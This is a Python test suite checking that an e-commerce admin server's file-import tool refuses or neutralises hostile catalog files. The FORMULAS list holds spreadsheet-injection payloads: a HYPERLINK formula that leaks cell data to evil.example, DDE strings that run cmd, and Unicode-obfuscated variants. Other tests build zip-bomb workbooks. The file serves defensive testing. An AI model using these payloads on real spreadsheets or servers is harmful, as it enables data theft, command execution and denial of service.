"""Hostile catalog files through the admin MCP server's `create_from_file` (issue #7).

Each file gets a clear error (the stable code `invalid_file` and a sentence) or a row report, and
a refused file leaves the catalog exactly as it was: the products table is compared row by row.
"""

from __future__ import annotations

import base64
import io
import json
import random
import re
import sqlite3
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import openpyxl
import pytest
from mcp import Client

from mcp_servers.ecommerce_admin.server import create_server
from shopmcp.settings import Settings

pytestmark = pytest.mark.anyio

LIMIT = 30
"""Seconds per tool call: the largest files here (10 MiB, a million rows) parse in a few."""
HEADER = "sku,name,price,stock,category\n"


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    (tmp_path / "imports").mkdir()
    return Settings(
        data_dir=tmp_path, database_path=tmp_path / "shop.sqlite3", link_secret="hostile-imports"
    )


@pytest.fixture
async def client(settings: Settings) -> AsyncIterator[Client]:
    async with Client(create_server(settings)) as connected:
        yield connected


def catalog(settings: Settings) -> list[tuple[Any, ...]]:
    """Every product row as stored, read straight from the SQLite file."""
    with sqlite3.connect(f"file:{settings.database_path}?mode=ro", uri=True) as db:
        return db.execute("SELECT * FROM products ORDER BY id").fetchall()


async def run(client: Client, **arguments: Any) -> tuple[bool, str, dict[str, Any] | None]:
    with anyio.fail_after(LIMIT):
        result = await client.call_tool("create_from_file", arguments)
    text = " ".join(getattr(block, "text", "") for block in result.content)
    return result.is_error, text, result.structured_content


async def refused(client: Client, settings: Settings, **arguments: Any) -> str:
    """The tool's error message; asserts the catalog did not change."""
    await client.call_tool("list_products", {"page_size": 1})  # the lifespan has seeded the shop
    before = catalog(settings)
    is_error, text, _ = await run(client, **arguments)
    assert is_error, text
    assert catalog(settings) == before
    return text


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def xlsx(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zipped(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def with_sheet_xml(book: bytes, edit: Any) -> bytes:
    """A copy of an .xlsx with its first sheet's XML rewritten by `edit`."""
    source = zipfile.ZipFile(io.BytesIO(book))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = edit(data)
            archive.writestr(info, data)
    return out.getvalue()


@pytest.mark.parametrize(
    "bomb",
    [
        pytest.param({"xl/worksheets/sheet1.xml": b"\0" * (50 * 1024 * 1024)}, id="one-entry"),
        pytest.param(
            {f"xl/media/image{i}.bin": b"\0" * (1024 * 1024) for i in range(120)},
            id="many-entries-over-100-MiB",
        ),
    ],
)
async def test_a_zip_bomb_xlsx_is_refused_as_one(
    client: Client, settings: Settings, bomb: dict[str, bytes]
) -> None:
    message = await refused(client, settings, file_type="xlsx", content=b64(zipped(bomb)))
    assert "invalid_file" in message and "zip bomb" in message


FORMULAS = [
    pytest.param('=HYPERLINK("http://evil.example/?leak="&A1,"click")', id="hyperlink"),
    pytest.param("+cmd|' /C calc'!A0", id="plus-dde"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab-then-equals"),
    pytest.param("  =1+1", id="spaces-then-equals"),
    pytest.param("\uff1d1+1", id="fullwidth-equals"),
    pytest.param("\uff0bcmd|' /C calc'!A0", id="fullwidth-plus"),
    pytest.param("\uff0d2+3", id="fullwidth-minus"),
    pytest.param("\uff20SUM(1)", id="fullwidth-at"),
    pytest.param("\u200b=1+1", id="zero-width-space-then-equals"),
    pytest.param("\ufeff\u200d=1+1", id="bom-and-joiner-then-equals"),
    pytest.param("\u00a0=1+1", id="no-break-space-then-equals"),
]


@pytest.mark.parametrize("formula", FORMULAS)
async def test_formula_cells_are_stored_neutralised(
    client: Client, settings: Settings, formula: str
) -> None:
    rows = [
        ["sku", "name", "brand", "description", "price", "stock", "category"],
        ["EVIL-1", formula, formula, formula, "9.99", 1, "home"],
    ]
    is_error, text, report = await run(client, file_type="xlsx", content=b64(xlsx(rows)))
    assert not is_error and report is not None and report["created"] == 1, text
    with anyio.fail_after(LIMIT):
        listed = await client.call_tool("list_products", {"query": "EVIL-1"})
    assert listed.structured_content is not None
    product = next(p for p in listed.structured_content["items"] if p["sku"] == "EVIL-1")
    assert product["name"]["en"].startswith("'")
    assert product["description"]["en"].startswith("'")
    # brands are folded to a canonical word, which also takes away the formula's first character
    assert not product["brand"].startswith(("=", "+", "-", "@", "\t", "\r")), product["brand"]


@pytest.mark.parametrize("sku", ["=1+1", "\uff1d1+1", "\u200b@SUM(1)", "-2+3", "+A1"], ids=ascii)
async def test_a_formula_sku_is_stored_neutralised(
    client: Client, settings: Settings, sku: str
) -> None:
    rows = [["sku", "name", "price", "stock", "category"], [sku, "Formula lamp", "9.99", 1, "home"]]
    is_error, text, report = await run(client, file_type="xlsx", content=b64(xlsx(rows)))
    assert not is_error and report is not None and report["created"] == 1, text
    stored = [row[1] for row in catalog(settings) if "Formula lamp" in row[9]]
    assert len(stored) == 1 and stored[0].startswith("'"), stored


@pytest.mark.parametrize("price", ['=HYPERLINK("http://e/1","9")', "=1+1", "@SUM(12)"], ids=str)
async def test_a_formula_in_the_price_column_is_a_row_problem(
    client: Client, settings: Settings, price: str
) -> None:
    rows = [["sku", "name", "price", "stock", "category"], ["F-1", "Lamp", price, 1, "home"]]
    before = catalog(settings)
    is_error, text, report = await run(client, file_type="xlsx", content=b64(xlsx(rows)))
    assert not is_error and report is not None, text
    assert report["valid"] == 0 and [p["column"] for p in report["problems"]] == ["price"]
    assert catalog(settings) == before


async def test_a_cell_larger_than_the_csv_field_limit_is_refused(
    client: Client, settings: Settings
) -> None:
    content = HEADER + "BIG-1," + "x" * 200_000 + ",1.00,1,home\n"
    message = await refused(client, settings, file_type="csv", content=content)
    assert "invalid_file" in message and "field" in message


async def test_a_row_wider_than_the_column_limit_is_refused(
    client: Client, settings: Settings
) -> None:
    content = HEADER.rstrip("\n") + "," * 400 + "\nW-1,Lamp,1.00,1,home" + ",x" * 400 + "\n"
    message = await refused(client, settings, file_type="csv", content=content)
    assert "invalid_file" in message and "columns" in message


async def test_gigantic_names_are_reported_per_row_and_nothing_is_written(
    client: Client, settings: Settings
) -> None:
    await client.call_tool("list_products", {"page_size": 1})
    before = catalog(settings)
    rows = "".join(f"G-{i},{'n' * 50_000},1.00,1,home\n" for i in range(50))
    is_error, text, report = await run(client, file_type="csv", content=HEADER + rows)
    assert not is_error and report is not None, text
    assert report["valid"] == 0 and len(report["problems"]) == 50
    assert {p["column"] for p in report["problems"]} == {"name"}
    assert catalog(settings) == before


async def test_a_million_empty_csv_rows_are_refused(client: Client, settings: Settings) -> None:
    message = await refused(
        client, settings, file_type="csv", content=HEADER + ",,,,\n" * 1_000_000
    )
    assert "invalid_file" in message and "rows" in message


async def test_a_million_empty_xlsx_rows_are_refused(client: Client, settings: Settings) -> None:
    last_row = b'<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'

    def stretch(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:C1000000"/>', xml)
        return xml.replace(b"</sheetData>", last_row + b"</sheetData>")

    book = with_sheet_xml(xlsx([["sku", "name", "price"]]), stretch)
    message = await refused(client, settings, file_type="xlsx", content=b64(book))
    assert "invalid_file" in message and "rows" in message


async def test_a_sheet_claiming_16384_columns_is_refused_by_its_cell_count(
    client: Client, settings: Settings
) -> None:
    rows: list[list[object]] = [["sku", "name", "price", "category"]]
    rows += [[f"W-{n}", "Lamp", "1.00", "home"] for n in range(100)]

    def widen(xml: bytes) -> bytes:  # openpyxl pads every row to the claimed width
        return re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD101"/>', xml)

    book = with_sheet_xml(xlsx(rows), widen)
    message = await refused(client, settings, file_type="xlsx", content=b64(book))
    assert "invalid_file" in message and "cells" in message


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        pytest.param(b"\x00\xff" * 100 + b"\x00", None, id="nul-heavy-odd-length"),
        pytest.param("sku,name\nA,Café\n".encode("cp1252"), "utf-8", id="cp1252-declared-utf8"),
        pytest.param(HEADER.encode(), "no-such-codec", id="unknown-codec"),
        pytest.param(HEADER.encode(), "rot13", id="not-a-text-codec"),
        pytest.param(b"\xef\xbb\xbf" + b"\xff\xfe\xfd" * 10, None, id="utf8-bom-then-garbage"),
        pytest.param(b"\xff\xfe" + b"\x00\xd8" * 10, None, id="utf16-bom-lone-surrogates"),
    ],
)
async def test_a_file_in_a_wrong_encoding_is_refused_clearly(
    client: Client, settings: Settings, data: bytes, encoding: str | None
) -> None:
    (settings.data_dir / "imports" / "wrong.csv").write_bytes(data)
    arguments: dict[str, Any] = {"file_type": "csv", "path": "wrong.csv"}
    if encoding:
        arguments["encoding"] = encoding
    message = await refused(client, settings, **arguments)
    assert "invalid_file" in message


async def test_a_cp1252_file_without_a_declared_encoding_is_read_not_mangled(
    client: Client, settings: Settings
) -> None:
    (settings.data_dir / "imports" / "latin.csv").write_bytes(
        (HEADER + "CP-1,Crème brûlée,4.50,3,home\n").encode("cp1252")
    )
    is_error, text, report = await run(client, file_type="csv", path="latin.csv", dry_run=True)
    assert not is_error and report is not None and report["valid"] == 1, text


async def test_a_utf16_file_without_a_bom_is_read_as_utf16(
    client: Client, settings: Settings
) -> None:
    (settings.data_dir / "imports" / "utf16.csv").write_bytes(
        (HEADER + "U16-1,Lamp,4.50,3,home\n").encode("utf-16-le")
    )
    is_error, text, report = await run(client, file_type="csv", path="utf16.csv", dry_run=True)
    assert not is_error and report is not None and report["valid"] == 1, text


GARBAGE = random.Random(7).randbytes(64 * 1024)


@pytest.mark.parametrize(
    ("file_type", "name", "data"),
    [
        pytest.param("csv", "garbage.csv", GARBAGE, id="csv"),
        pytest.param("json", "garbage.json", GARBAGE, id="json"),
        pytest.param("xlsx", "garbage.xlsx", GARBAGE, id="xlsx"),
        pytest.param("xlsx", "truncated.xlsx", xlsx([["sku"], ["A"]])[:-200], id="truncated-xlsx"),
        pytest.param(
            "xlsx",
            "not-a-workbook.xlsx",
            zipped({"hello.txt": b"a zip, but no workbook"}),
            id="zip-without-workbook",
        ),
        pytest.param("csv", "empty.csv", b"", id="empty-file"),
    ],
)
async def test_binary_garbage_is_refused_clearly(
    client: Client, settings: Settings, file_type: str, name: str, data: bytes
) -> None:
    (settings.data_dir / "imports" / name).write_bytes(data)
    message = await refused(client, settings, file_type=file_type, path=name)
    assert "invalid_file" in message


async def test_xlsx_content_that_is_not_base64_is_refused(
    client: Client, settings: Settings
) -> None:
    message = await refused(client, settings, file_type="xlsx", content="PK\x03\x04 not base64 %%%")
    assert "base64" in message


LEAKS = (
    "commerce/_readers.py read_json catches only json.JSONDecodeError and commerce/importing.py "
    "_to_product catches only ValueError, so {} escapes as a bare exception: the admin sees "
    "'Error executing tool create_from_file' with no reason instead of an invalid_file error"
)


@pytest.mark.parametrize(
    ("file_type", "content", "escaping"),
    [
        pytest.param(
            "json", "[" * 100_000 + "]" * 100_000, "RecursionError", id="json-nested-100k-deep"
        ),
        pytest.param(
            "json",
            json.dumps([{"sku": "A-1", "name": "x", "price": "1", "category": "home"}])[:-2]
            + ', "stock": '
            + "9" * 5000
            + "}]",
            "ValueError (int over 4300 digits)",
            id="json-5000-digit-number",
        ),
        pytest.param(
            "csv", HEADER + "A-1,Lamp,1.00,1e400,home\n", "OverflowError", id="csv-stock-1e400"
        ),
    ],
)
async def test_numbers_and_nesting_beyond_the_parsers_limits_are_clear_errors(
    request: pytest.FixtureRequest,
    client: Client,
    settings: Settings,
    file_type: str,
    content: str,
    escaping: str,
) -> None:
    await client.call_tool("list_products", {"page_size": 1})
    before = catalog(settings)
    is_error, text, report = await run(client, file_type=file_type, content=content)
    assert catalog(settings) == before
    if is_error:
        assert "invalid_file: " in text, text
    else:
        assert report is not None and report["valid"] == 0 and report["problems"], text
